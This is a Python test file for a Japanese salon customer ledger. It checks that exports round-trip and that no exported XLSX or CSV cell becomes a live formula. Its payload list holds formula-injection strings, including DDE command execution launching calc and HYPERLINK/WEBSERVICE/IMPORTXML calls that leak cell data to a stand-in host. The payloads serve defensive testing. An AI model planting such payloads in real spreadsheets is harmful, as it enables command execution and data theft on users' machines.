import csv
import io
import unicodedata

import daicho
import openpyxl
from salon import MANAGER, MORNING, SalonTest

XLSX, CSV, SHIFT_JIS = daicho.FileFormat.XLSX, daicho.FileFormat.CSV, daicho.FileFormat.CSV_SHIFT_JIS
STAFF = daicho.Actor(id="staff-1", role=daicho.Role.STAFF)

# What a formula begins with, also as Japanese keyboards type it.
SIGNS = "=+-@＝＋－＠"
# What somebody puts before a sign to get past a look at the first character.
PREFIXES = ["", "'", '"', "''", '""', "'\"", "\"'", "' ", '" ', "'\u3000", "'\t", "'\r\n"]
FORMULAS = [
    "1+1",
    "A1",
    "SUM(1,1)",
    "cmd|'/C calc'!A0",
    "SUM(1+1)*cmd|'/C calc'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    'DDE("cmd";"/C calc";"!A0")',
    'HYPERLINK("http://x.example/?"&A1,"開く")',
    'WEBSERVICE("http://x.example/"&B2)',
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "IF(1;2;3)",
    "2\n=1+1",
]
PAYLOADS = [prefix + sign + formula for prefix in PREFIXES for sign in SIGNS for formula in FORMULAS]


def begins(text):
    """The first character that counts for a program that drops white space, quotation marks, control and invisible characters."""
    shown = (c for c in text if not (c == '"' or c.isspace() or unicodedata.category(c) in ("Cc", "Cf", "Zs", "Zl", "Zp")))
    return next(shown, "")


def everybody(**more):
    return daicho.ExportCustomers(criteria=daicho.Criteria(), **more)


class ExportTest(SalonTest):
    def file(self, format, columns=()):
        return self.ledger.export_customers_file(everybody(columns=list(columns)), format, MANAGER, MORNING)

    def test_i6_what_is_exported_is_imported_again_as_it_was(self):
        self.register(building="=1+1", birthday="--02-29", phones=["090-1234-5678", "03-1234-5678"])
        form = daicho.form_of(self.card("c1").customer)
        for format in (XLSX, CSV, SHIFT_JIS):
            with daicho.Ledger.in_memory("salon-2") as other:
                report = other.import_bytes(self.file(format), "import-1", self.context())
                self.assertEqual(report.counts.imported, 1, format)
                self.assertEqual(daicho.form_of(other.get_customer(daicho.GetCustomer(customer="c1"), MANAGER, MORNING).customer), form)

    def test_i6_a_file_holds_every_page_whichever_is_asked_for(self):
        rows = "姓,名\r\n" + "".join("佐藤,{}子\r\n".format(chr(0x4E00 + n)) for n in range(1200))
        self.ledger.import_bytes(rows.encode(), "import-1", self.context())
        asked = everybody(page_size=5)
        sheet = openpyxl.load_workbook(io.BytesIO(self.ledger.export_customers_file(asked, XLSX, MANAGER, MORNING)), read_only=True).active
        self.assertEqual([sheet.title, sum(1 for _ in sheet.iter_rows())], ["顧客", 1201])
        reservation = self.book("c1")
        booked = self.ledger.export_reservations_file(daicho.ExportReservations(), CSV, MANAGER, MORNING).decode("utf-8-sig")
        heading, row = csv.reader(io.StringIO(booked, newline=""))
        self.assertEqual(dict(zip(heading, row))["予約番号"], reservation)
        self.assertEqual(dict(zip(heading, row))["開始日時"], "2026/11/22 10:00")
        tickets = self.ledger.export_tickets_file(daicho.ExportTickets(), SHIFT_JIS, MANAGER, MORNING).decode("cp932")
        self.assertEqual(tickets.count("\r\n"), 1)

    def test_i6_what_is_refused_is_typed(self):
        self.register(family_name="𠮷田")
        error = self.refusal(self.ledger.export_customers_file, everybody(), XLSX, STAFF, MORNING)
        self.assertEqual(error.code, "access.forbidden")
        error = self.refusal(self.file, SHIFT_JIS)
        self.assertEqual(error.code, "sheet.unencodable")
        self.assertNotIn("𠮷", str(error))

    def test_i6_no_cell_of_an_export_is_a_formula(self):
        self.assertGreaterEqual(len(set(PAYLOADS)), 1000)
        for number, payload in enumerate(PAYLOADS):
            name = payload.replace("\n", " ")[:80]
            mail = "{}{}@example.jp".format(SIGNS[number % 4], number)
            self.register(family_name=name, given_name=name, shop_comment=payload, building=name, phone="090-0000-{:04}".format(number), email=mail)
        column = daicho.CustomerExportColumn
        columns = [column.FAMILY_NAME, column.GIVEN_NAME, column.SHOP_COMMENT, column.BUILDING, column.EMAIL]
        # What the ledger holds is the measure: what nobody can see was taken out on entry (C9).
        held = []
        for number in range(len(PAYLOADS)):
            customer = self.card("c{}".format(number + 1)).customer
            row = [customer.family_name, customer.given_name, customer.shop_comment, customer.building, customer.emails[0].entered]
            self.assertTrue(all(begins(text.lstrip("'\"")) in SIGNS or "'" in text for text in row), row)
            held.append(row)
        self.assertGreaterEqual(len({text for row in held for text in row}), 1000)

        sheet = openpyxl.load_workbook(io.BytesIO(self.file(XLSX, columns))).active
        rows = list(sheet.iter_rows(min_row=2))
        self.assertEqual([[cell.value for cell in row] for row in rows], held)
        for row in rows:
            for cell in row:
                self.assertEqual((cell.data_type, cell.hyperlink), ("s", None), cell.coordinate)
                # Edited in its cell, it stays a text.
                self.assertEqual(cell.number_format, "@", cell.coordinate)

        text = self.file(CSV, columns).decode("utf-8-sig")
        _, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
        self.assertEqual(len(rows), len(held))
        for row, original in zip(rows, held):
            for field, value in zip(row, original):
                self.assertNotIn(begins(field), SIGNS, field)
                self.assertNotIn(field[0], "\t\r\n", field)
                self.assertIn(value, (field, field[1:]))
